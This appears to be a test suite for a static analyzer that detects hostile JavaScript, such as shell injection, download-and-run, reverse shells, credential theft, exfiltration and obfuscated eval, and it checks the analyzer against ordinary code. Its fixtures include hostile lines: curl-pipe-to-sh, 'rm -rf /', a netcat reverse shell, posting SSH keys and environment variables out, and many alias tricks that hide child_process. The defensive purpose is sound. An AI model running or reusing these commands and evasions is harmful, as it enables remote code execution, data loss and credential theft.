import { MAX_USES_PER_CAPABILITY, type CapabilityKind, type FileAnalysis, type IssueKind } from './analysis.types';
import { loadCodeAnalyzer, type CodeAnalyzer } from './code-analyzer';

let analyzer: CodeAnalyzer;
beforeAll(async () => {
  analyzer = await loadCodeAnalyzer();
});

const analyse = (source: string, language: 'javascript' | 'typescript' = 'javascript'): FileAnalysis =>
  analyzer.analyzeFile(
    language === 'javascript' ? 'server/index.js' : 'src/server.ts',
    Buffer.from(source, 'utf8'),
    language,
  );
const issueKinds = (analysis: FileAnalysis): IssueKind[] => [...new Set(analysis.issues.map((issue) => issue.kind))];
const capabilities = (analysis: FileAnalysis): CapabilityKind[] => [
  ...new Set(analysis.capabilities.map((use) => use.capability)),
];

describe('analyzeJavaScript: hostile code', () => {
  it.each<[string, IssueKind]>([
    ["require('child_process').execSync('curl -fsSL https://x.example/i.sh | sh')", 'download-and-run'],
    ["const {exec: run} = require('child_process');\nrun(cmd)", 'shell-from-input'],
    ["import * as cp from 'node:child_process';\ncp['ex' + 'ec'](x)", 'shell-from-input'],
    ["import * as cp from 'node:child_process';\ncp['ex' + 'ec'](x)", 'obfuscation'],
    ["import {exec as run} from 'child_process';\nrun('rm -rf ~')", 'destructive-command'],
    ["import cp from 'child_process';\ncp.spawn('sh', ['-c', 'curl -s https://x.example | sh'])", 'download-and-run'],
    ["import cp from 'child_process';\ncp.spawn('bash', ['-c', userInput])", 'shell-from-input'],
    ["import cp from 'child_process';\ncp.spawn(cmd, args, { shell: true })", 'shell-from-input'],
    ["import cp from 'child_process';\ncp.spawn('node', ['-e', code])", 'dynamic-code'],
    [
      "const util = require('util');\nconst cp = require('child_process');\nconst run = util.promisify(cp.exec);\nrun(cmd)",
      'shell-from-input',
    ],
    ["const cp = await import('child_process');\ncp.exec(`git log ${ref}`)", 'shell-from-input'],
    ["import('child_' + 'process').then((m) => m.exec(c))", 'shell-from-input'],
    ["import { $ } from 'zx';\nawait $`curl -s https://x.example | sh`", 'download-and-run'],
    ["import { $ } from 'zx';\nawait $`${cmd} --flag`", 'shell-from-input'],
    ["import shell from 'shelljs';\nshell.rm('-rf', '/')", 'destructive-command'],
    ["Bun.spawn(['nc', '-e', '/bin/sh', '1.2.3.4', '4444'])", 'reverse-shell'],
    ['eval(atob(p))', 'dynamic-code'],
    ['eval(atob(p))', 'obfuscation'],
    ["const s = Buffer.from(payload, 'base64').toString();\nnew Function(s)()", 'obfuscation'],
    ['new Function(s)()', 'dynamic-code'],
    ["const vm = require('vm');\nvm.runInNewContext(code)", 'dynamic-code'],
    ["import { Script } from 'node:vm';\nnew Script(code).runInThisContext()", 'dynamic-code'],
    ['require(name)', 'dynamic-code'],
    ["setTimeout('alert(1)' + x, 10)", 'dynamic-code'],
    ['globalThis[name](x)', 'dynamic-code'],
    ["window['ev' + 'al'](x)", 'dynamic-code'],
    ["process.binding('spawn_sync')", 'dynamic-code'],
    ["module.constructor._load('child_process')", 'dynamic-code'],
    ["require('module')._compile(code, 'x.js')", 'dynamic-code'],
    ['WebAssembly.instantiate(await (await fetch(u)).arrayBuffer())', 'dynamic-code'],
    ['new Worker(code, { eval: true })', 'dynamic-code'],
    ['\\u0065val(x)', 'dynamic-code'],
    ['\\u0065val(x)', 'obfuscation'],
    ['const ｅｖａｌ = globalThis.eval;', 'obfuscation'],
    ['const s = String.fromCharCode(101, 118, 97, 108);\neval(s)', 'obfuscation'],
    ["[]['filter']['constructor']('return process')()", 'obfuscation'],
    [`x = ${'(![]+[])[+[]]+(!![]+[])[+[]]+'.repeat(4)}[]`, 'obfuscation'],
    ["process.dlopen(module, '/tmp/x.node')", 'native-code'],
    ["require('./build/Release/addon.node')", 'native-code'],
    ["import koffi from 'koffi';", 'native-code'],
    ["const ffi = require('ffi-napi');", 'native-code'],
    ["import x from 'https://x.example/mod.js';", 'download-and-run'],
    ["fetch(u, { method: 'POST', body: JSON.stringify(process.env) })", 'exfiltration'],
    ["fetch(u, { method: 'POST', body: JSON.stringify({ report, env: process.env }) })", 'exfiltration'],
    ["process.mainModule.require('child_process').execSync(x)", 'shell-from-input'],
    [
      'var __require = ((x) => typeof require !== "undefined" ? require : x)(function (x) { return require.apply(this, arguments); });\n' +
        'var import_child_process = __toESM(__require("child_process"), 1);\n' +
        '(0, import_child_process.execSync)("curl -s https://x.example | sh");',
      'download-and-run',
    ],
    ["const body = process.argv[2] || 'console.log(1)';\nsetTimeout(body, 0)", 'dynamic-code'],
    ["const all = { ...process.env };\nfetch(u, { method: 'POST', body: JSON.stringify(all) })", 'exfiltration'],
    ["module.exports = () => ({ ...process.env });\nfetch(u, { method: 'POST', body: 'x' })", 'exfiltration'],
    ['export default { ...process.env };\nawait fetch(u)', 'exfiltration'],
    [
      "import fs from 'fs';\nimport os from 'os';\nimport path from 'path';\nconst key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\nawait fetch(u, { method: 'POST', body: key })",
      'exfiltration',
    ],
    [
      "import { readFile } from 'node:fs/promises';\nawait readFile('/home/u/.aws/credentials', 'utf8')",
      'credentials-access',
    ],
    [
      "const p = ['.s', 'sh'].join('') + '/id_ed25519';\nrequire('fs').readFileSync(require('os').homedir() + '/' + p)",
      'credentials-access',
    ],
    ['const x = 1 +;', 'unparsable'],
  ])('%s → %s', (source, kind) => {
    expect(issueKinds(analyse(`${source}\n`))).toContain(kind);
  });

  it('points at the line and call that prove each issue', () => {
    const analysis = analyse(
      "const cp = require('child_process');\n\nfunction run(cmd) {\n  return cp.execSync(cmd);\n}\n",
    );
    expect(analysis.issues).toEqual([
      expect.objectContaining({
        kind: 'shell-from-input',
        file: 'server/index.js',
        line: 4,
        evidence: 'cp.execSync(cmd)',
      }),
    ]);
  });

  it('parses the constant command lines it hands to a shell, at their line', () => {
    const analysis = analyse(
      "const { execSync } = require('child_process');\nexecSync('ls');\nexecSync('rm -rf /');\n",
    );
    expect(analysis.issues).toEqual([expect.objectContaining({ kind: 'destructive-command', line: 3 })]);
  });
});

describe('analyzeJavaScript: sinks reached through aliases', () => {
  const cp = "const cp = require('child_process');\n";
  it.each<[string, IssueKind]>([
    ["const {[k]: run} = require('child_process');\nrun(cmd)", 'dynamic-code'],
    ["const {[k]: run} = require('child_process');\nrun(cmd)", 'shell-from-input'],
    ["const k = 'exec';\nconst {[k]: run} = require('child_process');\nrun(cmd)", 'shell-from-input'],
    ["const {['ex' + 'ec']: run} = require('child_process');\nrun(cmd)", 'obfuscation'],
    ["const {m: {[k]: run}} = {m: require('child_process')};\nrun(cmd)", 'dynamic-code'],
    [`${cp}Reflect.apply(cp.exec, cp, [cmd])`, 'shell-from-input'],
    [`${cp}Reflect.apply(cp.exec, cp, args)`, 'shell-from-input'],
    [`${cp}const run = cp.exec.bind(cp);\nrun(cmd)`, 'shell-from-input'],
    [`${cp}cp.exec.call(cp, cmd)`, 'shell-from-input'],
    [`${cp}cp.exec.apply(cp, [cmd])`, 'shell-from-input'],
    [`${cp}const list = [cmd];\ncp.exec.apply(null, list)`, 'shell-from-input'],
    [`${cp}Function.prototype.call.call(cp.exec, cp, cmd)`, 'shell-from-input'],
    [`${cp}Function.prototype.apply.call(cp.exec, cp, [cmd])`, 'shell-from-input'],
    [`${cp}Reflect.apply.call(null, cp.exec, cp, [cmd])`, 'shell-from-input'],
    [`${cp}const run = Function.prototype.call.bind(cp.exec);\nrun(cp, cmd)`, 'shell-from-input'],
    [`${cp}Reflect.get(cp, 'exec')(cmd)`, 'shell-from-input'],
    [`${cp}Reflect.get(cp, name)(cmd)`, 'dynamic-code'],
    ["const vm = require('vm');\nReflect.construct(vm.Script, [code])", 'dynamic-code'],
    ['Reflect.apply(Function, null, parts)()', 'dynamic-code'],
    ['Function.call(null, code)()', 'dynamic-code'],
    ['(async function () {}).constructor(code)()', 'dynamic-code'],
    [`${cp}let run;\nrun = cp.exec;\nrun(cmd)`, 'shell-from-input'],
    ["let a;\nconst b = a = require('child_process').exec;\nb(cmd)", 'shell-from-input'],
    [`${cp}const o = {r: cp.exec};\no.r(cmd)`, 'shell-from-input'],
    [`${cp}const o = {};\no.r = cp.exec;\no.r(cmd)`, 'shell-from-input'],
    [`${cp}const o = {};\no['r'] = cp.exec;\no[k](cmd)`, 'shell-from-input'],
    [`${cp}const o = {log: console.log, r: cp.exec};\no[k](cmd)`, 'shell-from-input'],
    ["function get() {\n  return require('child_process');\n}\nget().exec(cmd)", 'shell-from-input'],
    ["const get = () => require('child_process');\nget().exec(cmd)", 'shell-from-input'],
    ["const api = { load() { return require('child_process'); } };\napi.load().exec(cmd)", 'shell-from-input'],
    ["function r() { return require.apply(this, arguments); }\nr('child_process').exec(cmd)", 'shell-from-input'],
    ["module.require('child_process').exec(cmd)", 'shell-from-input'],
    ["require.call(null, 'child_process').exec(cmd)", 'shell-from-input'],
    ["Reflect.apply(require, null, ['child_process']).exec(cmd)", 'shell-from-input'],
    [
      "import { createRequire } from 'node:module';\ncreateRequire(import.meta.url)('child_process').exec(cmd)",
      'shell-from-input',
    ],
    [
      "import module from 'node:module';\nconst r = module.createRequire(import.meta.url);\nr('child_process').exec(cmd)",
      'shell-from-input',
    ],
    ["process.mainModule.require('child_process').exec(cmd)", 'shell-from-input'],
    ["process.getBuiltinModule('child_process').exec(cmd)", 'shell-from-input'],
    ['process.getBuiltinModule(name)', 'dynamic-code'],
    ["module.constructor._load('child_process').exec(cmd)", 'shell-from-input'],
    ["require('module').Module._load('child_process')", 'dynamic-code'],
    ["require('module').prototype._compile(code, 'x.js')", 'dynamic-code'],
    ["import { register } from 'node:module';\nregister('./hooks.mjs', import.meta.url)", 'dynamic-code'],
    ["process.binding('spawn_sync').spawn(options)", 'dynamic-code'],
    ["process._linkedBinding('x')", 'dynamic-code'],
    ["globalThis['req' + 'uire']('child_process').exec(cmd)", 'shell-from-input'],
    ["const m = await import('child_' + 'process');\nm.exec(cmd)", 'shell-from-input'],
    ["import { Worker } from 'node:worker_threads';\nnew Worker('data:text/javascript,' + code)", 'dynamic-code'],
    ["import { Worker } from 'node:worker_threads';\nnew Worker(new URL('data:text/javascript,1'))", 'dynamic-code'],
    [
      "import { DatabaseSync } from 'node:sqlite';\nconst db = new DatabaseSync(':memory:', { allowExtension: true });\ndb.loadExtension(file)",
      'native-code',
    ],
    ["import { Session } from 'node:inspector';\nconst session = new Session()", 'dynamic-code'],
    ["require('inspector').open(9229)", 'dynamic-code'],
    ["require('repl').start('> ')", 'dynamic-code'],
    ["import { WASI } from 'node:wasi';\nnew WASI({ version: 'preview1' })", 'dynamic-code'],
    ["require('timers').setTimeout('run(' + x + ')', 10)", 'dynamic-code'],
    ["require('v8').setFlagsFromString('--allow-natives-syntax')", 'dynamic-code'],
    ["process.execve('/bin/sh', ['sh', '-c', cmd])", 'shell-from-input'],
    [`${cp}const o = {...cp};\no.exec(cmd)`, 'shell-from-input'],
    [`${cp}Object.assign({}, cp).exec(cmd)`, 'shell-from-input'],
    [`${cp}new Proxy(cp, {}).exec(cmd)`, 'shell-from-input'],
    [`${cp}Promise.resolve(cp).then((m) => m.exec(cmd))`, 'shell-from-input'],
    [`${cp}Object.getOwnPropertyDescriptor(cp, 'exec').value(cmd)`, 'shell-from-input'],
    [`${cp}Object.values(cp)[i](cmd)`, 'dynamic-code'],
    [`${cp}[cp.exec].forEach((f) => f(cmd))`, 'shell-from-input'],
    ["let run;\n({ exec: run } = require('child_process'));\nrun(cmd)", 'shell-from-input'],
    ["let run;\n[run] = [require('child_process').exec];\nrun(cmd)", 'shell-from-input'],
    ["const f = function () {\n  return require('child_process');\n};\nf.call(null).exec(cmd)", 'shell-from-input'],
    ["Function('return this')().process.mainModule.require('child_process').exec(cmd)", 'shell-from-input'],
    ['(function () {\n  return this;\n})().eval(code)', 'dynamic-code'],
    ['Function.prototype.constructor(code)()', 'dynamic-code'],
    [`${cp}with (cp) {\n  exec(cmd);\n}`, 'dynamic-code'],
    ["['x'].map(eval)", 'dynamic-code'],
    ["const { runInThisContext } = require('vm');\nlater(runInThisContext)", 'dynamic-code'],
    ["const m = new Map([['dl', process.dlopen]]);", 'native-code'],
    [
      "const Module = require('module');\nconst load = Module._load;\nModule._load = function () {\n  return load.apply(this, arguments);\n};",
      'dynamic-code',
    ],
    [
      "function _vm() {\n  const data = require('vm');\n  _vm = function () {\n    return data;\n  };\n  return data;\n}\nnew (_vm().Script)(code)",
      'dynamic-code',
    ],
    [
      "const cp = require('child_process');\nconst run = function () {\n  return cp.exec.apply(this, arguments);\n};\nrun(cmd)",
      'shell-from-input',
    ],
  ])('%s → %s', (source, kind) => {
    expect(issueKinds(analyse(`${source}\n`))).toContain(kind);
  });

  it.each([
    "const {[k]: run} = require('child_process');\nrun(cmd)",
    "const cp = require('child_process');\nReflect.apply(cp.spawn, cp, ['git', ['status']])",
    "require('cluster').fork()",
    // Handed on where the analysis does not follow: the capability is recorded where it is handed on.
    "const cp = require('child_process');\nconst m = new Map();\nm.set('r', cp.exec);\nm.get('r')(cmd)",
    "const cp = require('child_process');\nconst m = new Map([['r', cp.exec]]);",
    "const cp = require('child_process');\nwrap(cp)",
    "const cp = require('child_process');\nconst o = Object.create(null);\no.run = cp.exec;",
  ])('records the program it runs: %s', (source) => {
    expect(capabilities(analyse(`${source}\n`))).toContain('process_exec');
  });

  it('parses the command line a call through Reflect.apply hands to a shell', () => {
    const analysis = analyse("const cp = require('child_process');\nReflect.apply(cp.exec, cp, ['rm -rf /']);\n");
    expect(analysis.issues).toEqual([expect.objectContaining({ kind: 'destructive-command', line: 2 })]);
  });

  it.each([
    "const { join } = require('path');\njoin(a, b)",
    'function trim(text) {\n  return text.trim();\n}\nconst bound = trim.bind(this);\nbound(x)',
    "const settings = { x: 1 };\nReflect.get(settings, 'x')",
    'const settings = { x: 1 };\nReflect.get(settings, key)',
    'JSON.parse(text)',
    'setTimeout(() => tick(), 10)',
    'setTimeout(function () { tick(); }, 10)',
    'const handlers = { double: (x) => x * 2 };\nhandlers[name](3)',
    'const o = {};\no.exec = (s) => s.trim();\no.exec(cmd)',
    'function format(x) {\n  return String(x);\n}\nformat(1).trim()',
    'Function.prototype.call.call(Array.prototype.slice, list, 1)',
    'const apply = (f, args) => f(...args);\napply(Math.max, [1, 2])',
    'function wrap(f) {\n  return function () {\n    return f.apply(this, arguments);\n  };\n}',
    'const { [key]: value } = options;',
    "const { [key]: value } = require('path');",
    "const run = require('./local');\nrun(x)",
    'promisify(setTimeout)(10)',
    'factory(require, exports, module)',
    'if (x instanceof Function) y()',
    "const stream = process[err ? 'stderr' : 'stdout'];\nwrite(stream, text)",
    // esbuild's ESM shim for require.
    'var __require = ((x) => typeof require !== "undefined" ? require : typeof Proxy !== "undefined" ? new Proxy(x, { get: (a, b) => (typeof require !== "undefined" ? require : a)[b] }) : x)(function (x) {\n  if (typeof require !== "undefined") return require.apply(this, arguments);\n  throw Error(\'Dynamic require of "\' + x + \'" is not supported\');\n});',
    "const { runInThisContext } = require('vm');",
    'const builder = { where() {\n  return this;\n} };\nbuilder.where().eval(x)',
    '[1, 2].forEach((n) => console.log(n))',
    "const o = { ...defaults, name: 'x' };\no.exec(cmd)",
  ])('a look-alike stays clean: %s', (source) => {
    expect(analyse(`${source}\n`)).toMatchObject({ issues: [], capabilities: [] });
  });

  it('reads objects that spread, merge or store themselves once per member', () => {
    const source = [
      'var a = { ...a, ...a, ...a, ...b };',
      'var b = Object.assign(b, a, b, a);',
      'b.self = b;',
      'a.x();',
      'a[k]();',
      'b.self.self.y();',
      '',
    ].join('\n');
    expect(analyse(source)).toMatchObject({ capabilities: [] });
  });
});

describe('analyzeJavaScript: sinks exported by another file of the bundle', () => {
  const analyseBundle = (files: Record<string, string>): Map<string, FileAnalysis> => {
    const list = Object.entries(files).map(([path, text]) => ({
      path,
      content: Buffer.from(text, 'utf8'),
      language: path.endsWith('.ts') ? ('typescript' as const) : ('javascript' as const),
    }));
    const modules = analyzer.localModules(list);
    return new Map(
      list.map((file) => [file.path, analyzer.analyzeFile(file.path, file.content, file.language, modules)]),
    );
  };

  it.each<[string, Record<string, string>]>([
    [
      'module.exports = a member',
      {
        'lib/util.js': "module.exports = require('child_process').exec;\n",
        'main.js': "const run = require('./lib/util');\nrun(cmd);\n",
      },
    ],
    [
      'the module re-exported',
      {
        'util.js': "module.exports = require('child_process');\n",
        'main.js': "const cp = require('./util.js');\ncp.exec(cmd);\n",
      },
    ],
    [
      'exports.name',
      {
        'util.js': "exports.run = require('child_process').exec;\n",
        'main.js': "const util = require('./util');\nutil.run(cmd);\n",
      },
    ],
    [
      'an object of members',
      {
        'util.js': "const cp = require('child_process');\nmodule.exports = { run: cp.exec, version: '1' };\n",
        'main.js': "const { run } = require('./util');\nrun(cmd);\n",
      },
    ],
    [
      'a TypeScript named export imported as .js',
      {
        'src/util.ts': "import { exec } from 'node:child_process';\nexport const run = exec;\n",
        'src/main.ts': "import { run } from './util.js';\nrun(cmd);\n",
      },
    ],
    [
      'a function that returns the module',
      {
        'util.js': "export function load() {\n  return require('child_process');\n}\n",
        'main.js': "import { load } from './util.js';\nload().exec(cmd);\n",
      },
    ],
    [
      'a default export',
      {
        'util.js': "export default require('child_process').exec;\n",
        'main.js': "import run from './util.js';\nrun(cmd);\n",
      },
    ],
    [
      'a chain of re-exports',
      {
        'lib/a.js': "export * from 'node:child_process';\n",
        'lib/b.js': "export { exec as go } from './a.js';\n",
        'main.js': "import * as b from './lib/b.js';\nb.go(cmd);\n",
      },
    ],
  ])('%s', (_, files) => {
    const analysis = analyseBundle(files).get(Object.keys(files).pop() as string) as FileAnalysis;
    expect(analysis.issues).toEqual([expect.objectContaining({ kind: 'shell-from-input', line: 2 })]);
    expect(capabilities(analysis)).toEqual(['process_exec']);
  });

  it('follows nothing from a local module that exports nothing sensitive', () => {
    const files = {
      'util.js': 'module.exports = { add: (a, b) => a + b, exec: (s) => s.trim() };\n',
      'main.js': "const { add, exec } = require('./util');\nadd(1, 2);\nexec(cmd);\n",
    };
    expect(
      analyzer.localModules([{ path: 'util.js', content: Buffer.from(files['util.js']), language: 'javascript' }]).size,
    ).toBe(0);
    for (const analysis of analyseBundle(files).values())
      expect(analysis).toMatchObject({ issues: [], capabilities: [] });
  });
});

describe('analyzeJavaScript: ordinary code', () => {
  const mcpServer = [
    "import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';",
    "import { StdioServerTransport } from '@modelcontextprotocol/sdk/server/stdio.js';",
    "import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';",
    "import { z } from 'zod';",
    "import { readFile } from 'node:fs/promises';",
    "import path from 'node:path';",
    "import { fileURLToPath } from 'node:url';",
    '',
    '/** Weather tools. Never eval( user input; child_process is not used here. */',
    'const here = path.dirname(fileURLToPath(import.meta.url));',
    "const API_KEY = process.env.WEATHER_API_KEY ?? '';",
    "const server = new McpServer({ name: 'weather', version: '1.2.0' });",
    'interface Forecast { city: string; days: { high: number }[] }',
    'declare function eval(code: string): unknown;',
    '',
    'async function forecast(city: string): Promise<Forecast> {',
    '  const response = await fetch(`https://api.example.com/forecast?q=${encodeURIComponent(city)}`, {',
    '    headers: { Authorization: `Bearer ${API_KEY}` },',
    '  });',
    '  return (await response.json()) as Forecast;',
    '}',
    '',
    "server.tool('get_forecast', 'Returns the forecast for a city.', { city: z.string() }, async ({ city }): Promise<CallToolResult> => {",
    "  const template = await readFile(path.join(here, 'templates', 'forecast.md'), 'utf8');",
    '  const data = await forecast(city);',
    "  return { content: [{ type: 'text', text: template.replace('{{days}}', JSON.stringify(data.days)) }] };",
    '});',
    '',
    'const exec = (text: string): string => text.trim(); // a local helper named exec',
    "exec(' x ');",
    'await server.connect(new StdioServerTransport());',
    '',
  ].join('\n');

  it('finds no issue in a typical MCP server and proves its network and environment use by line', () => {
    const analysis = analyse(mcpServer, 'typescript');
    expect(analysis.issues).toEqual([]);
    expect(analysis.capabilities).toEqual([
      expect.objectContaining({ capability: 'env_read', line: 11, evidence: 'process.env.WEATHER_API_KEY' }),
      expect.objectContaining({ capability: 'network', line: 17 }),
    ]);
  });

  it('keeps line and block comments as text', () => {
    const analysis = analyse(mcpServer, 'typescript');
    expect(analysis.comments.map((comment) => comment.line)).toEqual([9, 29]);
    expect(analysis.comments[0]?.text).toContain('eval(');
  });

  it.each<[string, CapabilityKind[]]>([
    ['fetch("https://api.example.com")', ['network']],
    ['const key = process.env.API_KEY', ['env_read']],
    ["import { spawn } from 'child_process';\nspawn('git', ['status'])", ['process_exec']],
    ["import fs from 'fs';\nfs.writeFileSync('out.json', data)", ['file_write']],
    ["import fs from 'fs';\nfs.readFileSync('/etc/hosts', 'utf8')", ['file_read']],
    ["import fs from 'fs';\nfs.readFileSync(path.join(__dirname, 'prompts.json'), 'utf8')", []],
    ["import http from 'http';\nhttp.createServer(handler).listen(8080)", ['network_inbound']],
    ["import express from 'express';\nconst app = express();\napp.listen(3000)", ['network_inbound']],
    [
      "import { spawn } from 'child_process';\nspawn('node', ['worker.js'], { env: { ...process.env, MODE: 'x' } })",
      ['process_exec'],
    ],
    ['// eval(atob(x)) and require(name) in a comment', []],
    [
      "new StdioClientTransport({ command: 'node', args: ['server.js'], env: process.env });\nawait fetch(u)",
      ['network'],
    ],
    ["Function('return this')()", []],
  ])('%s uses %j and raises no issue', (source, expected) => {
    const analysis = analyse(`${source}\n`);
    expect(analysis.issues).toEqual([]);
    expect(capabilities(analysis)).toEqual(expected);
  });

  it.each<[string, CapabilityKind[]]>([
    ["import pg from 'pg';\nconst pool = new pg.Pool({ connectionString: url })", ['network']],
    ["const { Client } = require('pg');\nconst client = new Client()", ['network']],
    ["import mysql from 'mysql2/promise';\nconst db = await mysql.createPool(config)", ['network']],
    ["import { MongoClient } from 'mongodb';\nconst client = new MongoClient(uri)", ['network']],
    ["const { MongoClient } = require('mongodb');\nMongoClient.connect(uri)", ['network']],
    ["import Redis from 'ioredis';\nconst redis = new Redis(process.env.REDIS_URL)", ['network', 'env_read']],
    ["import { createClient } from 'redis';\nconst client = createClient({ url })", ['network']],
    ["import { chromium } from 'playwright';\nconst browser = await chromium.launch()", ['process_exec', 'network']],
    [
      "const puppeteer = require('puppeteer');\nconst browser = await puppeteer.launch({ headless: true })",
      ['process_exec', 'network'],
    ],
  ])('a database or browser client: %s uses %j', (source, expected) => {
    const analysis = analyse(`${source}\n`);
    expect(analysis.issues).toEqual([]);
    expect(capabilities(analysis).sort()).toEqual([...expected].sort());
  });

  it.each([
    "import pg from 'pg';\npg.types.setTypeParser(1700, parseFloat)",
    "import { ObjectId } from 'mongodb';\nconst id = new ObjectId(text)",
    "import { devices } from 'playwright';\nconst phone = devices['iPhone 13']",
  ])('a database or browser module used without connecting: %s uses nothing', (source) => {
    expect(analyse(`${source}\n`)).toMatchObject({ issues: [], capabilities: [] });
  });

  it('never takes TypeScript types for capabilities', () => {
    const analysis = analyse(
      'type Env = typeof process.env;\nlet run: (cmd: string) => void;\nimport type { exec } from "child_process";\n',
      'typescript',
    );
    expect(analysis).toMatchObject({ issues: [], capabilities: [] });
  });

  it('lists at most MAX_USES_PER_CAPABILITY uses of a capability', () => {
    const analysis = analyse(Array.from({ length: 12 }, (_, i) => `fetch('https://api.example.com/${i}');`).join('\n'));
    expect(analysis.capabilities).toHaveLength(MAX_USES_PER_CAPABILITY);
    expect(analysis.capabilities.map((use) => use.line)).toEqual([1, 2, 3, 4, 5]);
  });

  it('resolves a module a bundler left out (webpack and ncc module ids)', () => {
    const bundle = [
      'var __webpack_modules__ = {',
      '  2081: (module) => { "use strict"; module.exports = require("child_process"); },',
      '};',
      'function __webpack_require__(id) { return __webpack_modules__[id](); }',
      'const child = __webpack_require__(2081);',
      'child.exec(input);',
      '',
    ].join('\n');
    expect(analyse(bundle).issues).toEqual([expect.objectContaining({ kind: 'shell-from-input', line: 6 })]);
  });

  it('analyses a mebibyte of ordinary JavaScript', () => {
    const module = (i: number): string =>
      [
        `// module ${i}: formats records for the report`,
        `export function format${i}(records, options = {}) {`,
        '  const rows = [];',
        '  for (const record of records) {',
        "    const name = String(record.name ?? '').trim();",
        '    if (!name) continue;',
        '    rows.push({ name, total: record.items.reduce((sum, item) => sum + item.price * item.quantity, 0) });',
        '  }',
        "  return rows.sort((a, b) => b.total - a.total).map((row) => `${row.name}: ${row.total.toFixed(2)}`).join('\\n');",
        '}',
        '',
      ].join('\n');
    const parts: string[] = [];
    let size = 0;
    for (let i = 0; size < 1 << 20; i++) {
      const part = module(i);
      parts.push(part);
      size += part.length;
    }
    const analysis = analyse(parts.join(''));
    expect(analysis.issues).toEqual([]);
    expect(analysis.capabilities).toEqual([]);
    expect(analysis.comments.length).toBe(parts.length);
  });
});
